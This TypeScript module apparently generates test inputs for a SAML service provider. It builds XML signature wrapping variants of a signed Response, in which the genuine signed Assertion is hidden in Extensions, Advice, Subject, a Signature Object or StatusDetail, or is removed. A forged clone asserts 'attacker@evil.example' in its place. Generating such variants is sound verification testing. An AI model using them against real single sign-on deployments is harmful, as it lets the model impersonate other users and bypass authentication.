/**
 * XML signature wrapping: a signed Response rearranged so that the signature still verifies over the original
 * Assertion while the SP would read a forged one (another user's NameID and email). Built with a real DOM
 * (@xmldom/xmldom) so every variant is well-formed and the signed element keeps its exact content.
 */
import { DOMParser, XMLSerializer, type Document, type Element } from "@xmldom/xmldom";
import fc from "fast-check";

const SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
const DS = "http://www.w3.org/2000/09/xmldsig#";

export const FORGED_IDENTITY = "attacker@evil.example";

/** Where the genuine, signed Assertion ends up. */
export type OriginalPlace =
  | "removed"
  | "before-forged"
  | "after-forged"
  | "in-extensions"
  | "in-forged-advice"
  | "in-forged-subject"
  | "in-response-signature-object"
  | "in-status-detail";

export interface WrappingVariant {
  readonly original: OriginalPlace;
  /** The ID the forged Assertion carries: the signed one's, a new one, or none. */
  readonly forgedId: "same" | "fresh" | "none";
  /** Whether the forged Assertion keeps a copy of the genuine signature. */
  readonly forgedKeepsSignature: boolean;
  /** Wrap the whole signed Response into a new one instead of touching its Assertion. */
  readonly wrapResponse: "no" | "in-extensions" | "in-object";
  /** Give the outer (new) Response the signed Response's ID. */
  readonly outerTakesResponseId: boolean;
}

export const wrappingVariantArbitrary: fc.Arbitrary<WrappingVariant> = fc.record({
  original: fc.constantFrom<OriginalPlace>(
    "removed",
    "before-forged",
    "after-forged",
    "in-extensions",
    "in-forged-advice",
    "in-forged-subject",
    "in-response-signature-object",
    "in-status-detail",
  ),
  forgedId: fc.constantFrom("same" as const, "fresh" as const, "none" as const),
  forgedKeepsSignature: fc.boolean(),
  wrapResponse: fc.constantFrom("no" as const, "no" as const, "in-extensions" as const, "in-object" as const),
  outerTakesResponseId: fc.boolean(),
});

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, "text/xml");
}

function firstChildElement(parent: Element, ns: string, local: string): Element | undefined {
  for (let node = parent.firstChild; node !== null; node = node.nextSibling) {
    if (node.nodeType === 1) {
      const element = node as Element;
      if (element.namespaceURI === ns && element.localName === local) return element;
    }
  }
  return undefined;
}

function forge(assertion: Element, variant: WrappingVariant): Element {
  const forged = assertion.cloneNode(true) as Element;
  const owner = assertion.ownerDocument;
  if (owner === null) return forged;
  for (const nameId of Array.from(forged.getElementsByTagNameNS(SAML, "NameID"))) {
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(owner.createTextNode(FORGED_IDENTITY));
  }
  for (const value of Array.from(forged.getElementsByTagNameNS(SAML, "AttributeValue"))) {
    if ((value.textContent ?? "").includes("@")) {
      while (value.firstChild) value.removeChild(value.firstChild);
      value.appendChild(owner.createTextNode(FORGED_IDENTITY));
    }
  }
  if (variant.forgedId === "fresh") forged.setAttribute("ID", "_forged");
  if (variant.forgedId === "none") forged.removeAttribute("ID");
  const signature = firstChildElement(forged, DS, "Signature");
  if (signature !== undefined && !variant.forgedKeepsSignature) forged.removeChild(signature);
  return forged;
}

function container(owner: Document, ns: string, qualified: string): Element {
  return owner.createElementNS(ns, qualified);
}

/** Inserts `child` as the first element after Issuer (where Extensions and Advice belong), or first. */
function insertAfterIssuer(parent: Element, child: Element): void {
  const issuer = firstChildElement(parent, SAML, "Issuer");
  parent.insertBefore(child, issuer === undefined ? parent.firstChild : issuer.nextSibling);
}

/** The variant of a signed Response, or `undefined` when the Response has no Assertion to forge. */
export function wrap(xml: string, variant: WrappingVariant): string | undefined {
  const doc = parse(xml);
  const response = doc.documentElement;
  if (response === null) return undefined;
  const assertion = firstChildElement(response, SAML, "Assertion");
  if (assertion === undefined) return undefined;
  const forged = forge(assertion, variant);

  if (variant.wrapResponse !== "no") {
    // A new Response around the forged Assertion; the genuine signed Response hides inside it.
    const outer = response.cloneNode(false) as Element;
    if (!variant.outerTakesResponseId) outer.setAttribute("ID", "_outer");
    const issuer = firstChildElement(response, SAML, "Issuer");
    if (issuer !== undefined) outer.appendChild(issuer.cloneNode(true));
    const status = firstChildElement(response, SAMLP, "Status");
    const genuine = response.cloneNode(true) as Element;
    if (variant.wrapResponse === "in-extensions") {
      const extensions = container(doc, SAMLP, "samlp:Extensions");
      extensions.appendChild(genuine);
      outer.appendChild(extensions);
    } else {
      const signature = firstChildElement(response, DS, "Signature") ?? firstChildElement(assertion, DS, "Signature");
      const copy = (signature?.cloneNode(true) as Element | undefined) ?? container(doc, DS, "ds:Signature");
      const object = container(doc, DS, `${copy.prefix ?? "ds"}:Object`);
      object.appendChild(genuine);
      copy.appendChild(object);
      outer.appendChild(copy);
    }
    if (status !== undefined) outer.appendChild(status.cloneNode(true));
    outer.appendChild(forged);
    doc.replaceChild(outer, response);
    return new XMLSerializer().serializeToString(doc);
  }

  response.replaceChild(forged, assertion);
  switch (variant.original) {
    case "removed":
      break;
    case "before-forged":
      response.insertBefore(assertion, forged);
      break;
    case "after-forged":
      response.insertBefore(assertion, forged.nextSibling);
      break;
    case "in-extensions": {
      const extensions = container(doc, SAMLP, "samlp:Extensions");
      extensions.appendChild(assertion);
      insertAfterIssuer(response, extensions);
      break;
    }
    case "in-forged-advice": {
      const advice = container(doc, SAML, "saml:Advice");
      advice.appendChild(assertion);
      insertAfterIssuer(forged, advice);
      break;
    }
    case "in-forged-subject": {
      const subject = firstChildElement(forged, SAML, "Subject") ?? forged;
      subject.appendChild(assertion);
      break;
    }
    case "in-response-signature-object": {
      const signature = firstChildElement(response, DS, "Signature") ?? forged.appendChild(container(doc, DS, "ds:Signature"));
      const object = container(doc, DS, `${signature.prefix ?? "ds"}:Object`);
      object.appendChild(assertion);
      signature.appendChild(object);
      break;
    }
    case "in-status-detail": {
      const status = firstChildElement(response, SAMLP, "Status");
      if (status === undefined) return undefined;
      const detail = container(doc, SAMLP, "samlp:StatusDetail");
      detail.appendChild(assertion);
      status.appendChild(detail);
      break;
    }
  }
  return new XMLSerializer().serializeToString(doc);
}

/** The same document after a DOM round trip, to show that serialization alone does not break the signature. */
export function roundTrip(xml: string): string {
  return new XMLSerializer().serializeToString(parse(xml));
}
